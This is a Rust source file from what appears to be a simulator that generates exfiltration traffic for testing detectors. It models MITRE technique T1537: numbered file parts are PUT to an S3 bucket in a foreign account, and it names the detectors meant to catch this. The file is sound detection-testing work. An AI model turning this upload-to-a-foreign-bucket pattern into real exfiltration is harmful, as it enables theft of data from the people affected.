//! Files go to a bucket in somebody else's account (T1537). Its name is part of the host's.

use super::{Attack, Channel, Kind, Mission, Pace, Role};
use crate::simulate::programs::AWS;
use crate::simulate::session::{Call, Session};
use crate::simulate::world::public;

pub(super) static KIND: Kind = Kind {
    name: "foreign-bucket",
    about: "files go to somebody else's bucket",
    technique: "T1537",
    channel: Channel::Https,
    found_by: &["foreign_tenant", "upload_size", "new_destination"],
    paces: Pace::OF_AN_ARCHIVE,
    roles: &Role::each_way(act),
    sessions: 1,
};

fn act(session: &mut Session, mission: &Mission) -> Attack {
    let host = public(&format!("{}-backup.s3.eu-central-1.amazonaws.com", mission.handle));
    let mut number = 0;
    mission.send(session, (&host, &AWS), |_, bytes| {
        number += 1;
        vec![Call { method: "PUT", ..Call::post(format!("/part-{number}.bin"), bytes, 0) }]
    })
}
